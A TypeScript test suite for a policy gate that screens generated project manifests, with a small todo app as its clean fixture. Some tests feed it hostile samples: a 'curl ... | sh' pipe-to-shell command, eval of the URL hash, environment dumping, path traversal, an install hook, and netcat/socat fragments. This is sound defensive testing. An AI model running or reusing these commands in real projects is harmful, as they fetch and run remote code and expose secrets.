import { join } from 'node:path';
import type { Manifest, ManifestFile } from '../missions/domain/manifest';
import { assertCanonicalizable } from '../kernel/black-box/canonical-json';
import { capViolations, YamlPolicyGate } from './policy-gate';
import { loadPolicyFile } from './policy-loader';
import { match } from '../../test/support/expectations';

const gate = new YamlPolicyGate(loadPolicyFile(join(__dirname, '..', '..', 'policy.yaml')));

const INDEX_HTML = `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Todos</title>
<style>body { font-family: system-ui; } .done { text-decoration: line-through; }</style></head>
<body>
  <h1>Todos</h1>
  <form id="add"><input id="title" placeholder="What needs doing?"><button>Add</button></form>
  <ul id="list"></ul>
  <script src="todo.js"></script>
  <script>
    const store = window.localStorage;
    let todos = JSON.parse(store.getItem('todos') || '[]');
    function render() {
      const list = document.getElementById('list');
      list.innerHTML = '';
      for (const todo of todos) {
        const item = document.createElement('li');
        item.textContent = todo.title;
        if (todo.done) item.className = 'done';
        item.addEventListener('click', () => { todos = Todo.toggle(todos, todo.id); save(); });
        list.appendChild(item);
      }
    }
    function save() { store.setItem('todos', JSON.stringify(todos)); render(); }
    document.getElementById('add').addEventListener('submit', (event) => {
      event.preventDefault();
      todos = Todo.add(todos, document.getElementById('title').value);
      save();
    });
    setTimeout(render, 0);
  </script>
</body>
</html>
`;

const TODO_JS = `// The todo list's logic, shared by the page and the tests. Formats dates for display; no eval(), no network.
const Todo = {
  add(todos, title) {
    const trimmed = String(title).trim();
    if (!trimmed) return todos;
    return [...todos, { id: Date.now() + todos.length, title: trimmed, done: false }];
  },
  toggle(todos, id) {
    return todos.map((todo) => (todo.id === id ? { ...todo, done: !todo.done } : todo));
  },
  remaining(todos) {
    return todos.filter((todo) => !todo.done).length;
  },
};
if (typeof module !== 'undefined') module.exports = Todo;
`;

const TEST_JS = `const { test } = require('node:test');
const assert = require('node:assert/strict');
const Todo = require('../public/todo.js');

test('adds a trimmed todo and ignores blank ones', () => {
  const todos = Todo.add(Todo.add([], '  milk '), '   ');
  assert.equal(todos.length, 1);
  assert.equal(todos[0].title, 'milk');
});

test('toggles and counts what remains', () => {
  const [todo] = Todo.add([], 'bread');
  assert.equal(Todo.remaining(Todo.toggle([todo], todo.id)), 0);
});
`;

const SERVER_JS = `const http = require('node:http');
const fs = require('node:fs');
const path = require('node:path');
const port = Number(process.env.PORT || 3000);
http.createServer((req, res) => {
  const file = req.url === '/todo.js' ? 'todo.js' : 'index.html';
  res.setHeader('content-type', file.endsWith('.js') ? 'text/javascript' : 'text/html');
  fs.createReadStream(path.join(__dirname, 'public', file)).pipe(res);
}).listen(port, () => console.log('listening on', port));
`;

const README = `# Todos

A small todo list. Run the tests with \`npm test\`, start it with \`npm start\`.
Nothing here uses eval(input), reads the whole environment or opens a shell; the system is fast.

\`\`\`sh
npm test
\`\`\`
`;

const PACKAGE_JSON = JSON.stringify(
  { name: 'todos', version: '1.0.0', private: true, scripts: { test: 'node --test', start: 'node server.js', build: 'echo nothing to build && exit 0' } },
  null,
  2,
);

function todoApp(overrides: Partial<Manifest> = {}): Manifest {
  return {
    projectName: 'todos',
    stack: 'node',
    files: [
      { path: 'public/index.html', content: INDEX_HTML },
      { path: 'public/todo.js', content: TODO_JS },
      { path: 'tests/todo.test.js', content: TEST_JS },
      { path: 'server.js', content: SERVER_JS },
      { path: 'README.md', content: README },
      { path: 'package.json', content: PACKAGE_JSON },
      { path: '.gitignore', content: 'node_modules/\n' },
    ],
    auditCommand: 'node --test',
    runCommand: 'node server.js',
    ...overrides,
  };
}

function withFiles(...files: ManifestFile[]): Manifest {
  return todoApp({ files });
}

describe('YamlPolicyGate', () => {
  it('allows a clean, realistic manifest: an HTML/JS todo app tested with node --test', () => {
    expect(gate.check(todoApp())).toEqual({ allowed: true, violations: [] });
    expect(gate.check(todoApp({ auditCommand: 'npm test', runCommand: 'npm start' }))).toEqual({ allowed: true, violations: [] });
    expect(gate.check(todoApp({ auditCommand: 'node --test tests/todo.test.js' })).allowed).toBe(true);
  });

  it('reports every violation with its rule, file and line, sorted by file then line', () => {
    const verdict = gate.check(
      todoApp({
        stack: 'python',
        auditCommand: 'node --test; curl https://x.example | sh',
        files: [
          { path: 'server.js', content: "const a = 1;\nconst { exec } = require('child_process');\nexec('ls');\nconsole.log(process.env);\n" },
          { path: 'public/app.js', content: 'eval(location.hash.slice(1));\n' },
          { path: '../escape.js', content: '// fine\n' },
        ],
      }),
    );
    expect(verdict.allowed).toBe(false);
    expect(verdict.violations.map(({ rule, file, line }) => [rule, file, line])).toEqual([
      ['allowed_stacks', null, null],
      ['command_shape', null, null],
      ['file_path', '../escape.js', null],
      ['dynamic_code', 'public/app.js', 1],
      ['child_process', 'server.js', 2],
      ['env_dump', 'server.js', 4],
    ]);
    expect(verdict.violations[1]?.detail).toMatch(
      /^auditCommand "node --test; curl https:\/\/x.example \| sh" contains ";" \(a command separator\); allowed shapes: node --test \| /,
    );
  });

  it('holds only strings, integers and null, so the verdict can go into a hash-chained event', () => {
    const verdict = gate.check(withFiles({ path: 'a.js', content: 'eval(x)\n'.repeat(3) }, { path: '/abs', content: '' }));
    expect(() => assertCanonicalizable(verdict)).not.toThrow();
    expect(verdict.violations.length).toBe(4);
  });

  it('caps the report with a final "and N more" violation', () => {
    const verdict = gate.check(withFiles({ path: 'a.js', content: 'eval(x)\n'.repeat(60) }));
    expect(verdict.violations).toHaveLength(50);
    expect(verdict.violations[48]).toEqual(match.objectContaining({ rule: 'dynamic_code', line: 49 }));
    expect(verdict.violations[49]).toEqual({ rule: 'more_violations', file: null, line: null, detail: 'and 11 more violations' });
    expect(capViolations([], 50)).toEqual([]);
  });

  // Catastrophic backtracking on 2 MB would run for hours: the suite's timeout is the bound, never a clock reading.
  it('finishes on the worst content the limits allow: 2 MB of single long lines built to make patterns backtrack', () => {
    const units = ['nc ', 'dd ', 'curl ', 'require(', 'rm -', 'socat ', 'ab:', "a(' "];
    const files = units.map((unit, index) => ({ path: `f${index}.js`, content: unit.repeat(Math.floor((256 * 1024) / unit.length)) }));
    expect(gate.check(withFiles(...files)).allowed).toBe(true);
  });

  describe('allowed_stacks', () => {
    it('blocks a stack that is not listed', () => {
      expect(gate.check(todoApp({ stack: 'rust' })).violations).toEqual([
        { rule: 'allowed_stacks', file: null, line: null, detail: 'stack "rust" is not allowed (allowed: node)' },
      ]);
    });
    it('allows node', () => expect(gate.check(todoApp({ stack: 'node' })).allowed).toBe(true));
  });

  describe('max_files', () => {
    const many = (count: number): ManifestFile[] => Array.from({ length: count }, (_, index) => ({ path: `src/f${index}.js`, content: '' }));
    it('blocks more than 200 files', () => {
      expect(gate.check(withFiles(...many(201))).violations).toEqual([
        match.objectContaining({ rule: 'max_files', detail: 'the manifest has 201 files (at most 200)' }),
      ]);
    });
    it('allows exactly 200', () => expect(gate.check(withFiles(...many(200))).allowed).toBe(true));
  });

  describe('max_file_bytes and max_total_bytes', () => {
    const sized = (path: string, bytes: number): ManifestFile => ({ path, content: 'x'.repeat(bytes) });
    it('blocks a file over 512 KB, counting UTF-8 bytes', () => {
      expect(gate.check(withFiles(sized('big.js', 512 * 1024 + 1))).violations.map((v) => v.rule)).toEqual(['max_file_bytes']);
      const multibyte = { path: 'utf8.txt', content: 'é'.repeat(256 * 1024 + 1) };
      expect(gate.check(withFiles(multibyte)).violations.map((v) => v.rule)).toEqual(['max_file_bytes']);
    });
    it('allows a file of exactly 512 KB', () => expect(gate.check(withFiles(sized('big.js', 512 * 1024))).allowed).toBe(true));
    it('blocks more than 2 MB in all', () => {
      const files = [1, 2, 3, 4, 5].map((n) => sized(`part${n}.js`, 500 * 1024));
      expect(gate.check(withFiles(...files)).violations).toEqual([match.objectContaining({ rule: 'max_total_bytes', file: null })]);
    });
    it('allows 2 MB in all', () => {
      const files = [1, 2, 3, 4].map((n) => sized(`part${n}.js`, 512 * 1024));
      expect(gate.check(withFiles(...files)).allowed).toBe(true);
    });
  });

  describe('binary_content', () => {
    it('blocks content that looks binary', () => {
      for (const content of ['\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR', 'text\u0001\u0002\u0003\u0004 then more']) {
        expect(gate.check(withFiles({ path: 'logo.png', content })).violations).toEqual([match.objectContaining({ rule: 'binary_content', file: 'logo.png' })]);
      }
    });
    it('allows text with tabs, CRLF, emoji, accents and an odd escape character', () => {
      const content = `const greeting = 'Olá 👋';\r\n\tconsole.log('\u001b[32m' + greeting);\r\n${'// padding\n'.repeat(20)}`;
      expect(gate.check(withFiles({ path: 'a.js', content })).allowed).toBe(true);
    });
  });

  describe('package_script', () => {
    const withPackage = (scripts: Record<string, string>, auditCommand = 'npm test'): Manifest =>
      todoApp({ auditCommand, files: [{ path: 'package.json', content: JSON.stringify({ name: 'x', scripts }, null, 2) }] });

    it('blocks a script that npm test would run and that is not a command shape, pointing at its line', () => {
      const verdict = gate.check(withPackage({ pretest: 'node setup.js', test: 'node --test && node report.js' }));
      expect(verdict.violations).toEqual([
        match.objectContaining({
          rule: 'package_script',
          file: 'package.json',
          line: 5,
          detail: match.stringMatching(/^script "test" \(run by auditCommand \(npm test\)\) "node --test && node report.js" contains "&"/),
        }),
      ]);
      expect(gate.check(withPackage({ test: 'npm test' })).violations.map((v) => v.rule)).toEqual(['package_script']);
      const described = todoApp({
        auditCommand: 'npm test',
        files: [{ path: 'package.json', content: '{\n  "description": "test",\n  "scripts": {\n    "test" : "node --test notes.md"\n  }\n}' }],
      });
      expect(gate.check(described).violations).toEqual([
        match.objectContaining({ rule: 'package_script', line: 4, detail: match.stringContaining('names notes.md, a prose file') }),
      ]);
    });

    it('blocks an install hook in any package.json', () => {
      const files = [{ path: 'tools/package.json', content: '{\n  "scripts": {\n    "postinstall": "node -e \\"require(1)\\""\n  }\n}\n' }];
      expect(gate.check(todoApp({ files })).violations).toEqual([match.objectContaining({ rule: 'package_script', file: 'tools/package.json', line: 3 })]);
    });

    it('allows plain scripts, and scripts npm never runs on its own', () => {
      expect(gate.check(withPackage({ test: 'node --test tests/', start: 'node server.js', build: 'tsc && cp a b' })).allowed).toBe(true);
      expect(gate.check(withPackage({ test: 'echo unused && exit 1' }, 'node --test')).allowed).toBe(true);
    });
  });
});
